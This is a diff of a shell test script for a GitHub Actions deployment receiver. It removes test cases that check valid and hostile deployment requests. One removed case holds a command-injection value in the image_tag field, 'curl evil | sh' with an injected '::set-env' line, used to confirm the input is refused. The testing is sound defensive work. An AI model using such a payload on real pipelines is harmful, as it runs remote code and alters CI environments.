@@ -500,39 +500,7 @@ receive() { # receive CASE EVENT_FILE: the receiving step for that event
     set -e
     show "$1"
 }
-holds_exactly() { # holds_exactly FILE JSON ("payload": true stands for any payload)
-    python3 "$container/check.py" outputs "$1" >"$1.json" || return 1
-    python3 - "$1.json" "$2" <<'PY'
-import json, sys
-got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
-if want.get("payload") is True and "payload" in got:
-    want["payload"] = got["payload"]
-if got != want:
-    sys.exit(f"  holds {got!r}, expected {want!r}")
-PY
-}
-nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
-
-step "case: the receiving step accepts a valid deployment request"
-dispatch_as receive-send '{"image_tag": "sha-0123abc", "environment": "staging"}' "$tmp/deploy-event.json"
-receive receive-valid "$tmp/deploy-event.json"
-check "receive: exit code 0" test "$rc" -eq 0
-check "receive: no ::error line" no_error_line
-check "receive: the outputs are image_tag, environment and payload" \
-    holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
-check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
-    holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
-check "receive: it ran a private copy of the checked bytes (GITHUB_STATE's binary), not the tool cache's file" ran_private_copy
-check "receive: no request to the API" no_new_requests "$receive_before"
-
-step "case: the receiving step refuses a hostile payload"
-dispatch_as receive-send-hostile '{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}' \
-    "$tmp/hostile-event.json"
-receive receive-hostile "$tmp/hostile-event.json"
-check "receive-hostile: exit code 1" test "$rc" -eq 1
-check "receive-hostile: an ::error names /image_tag" grep -q '^::error.*/image_tag' "$run/stdout"
-check "receive-hostile: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
-check "receive-hostile: no request to the API" no_new_requests "$receive_before"
+receive_cases "it ran a private copy of the checked bytes (GITHUB_STATE's binary), not the tool cache's file" ran_private_copy
 
 # --- 6. GitHub App tokens and a cancelled job ------------------------------------------------
 # main mints an installation token, saves it in GITHUB_STATE and sends the
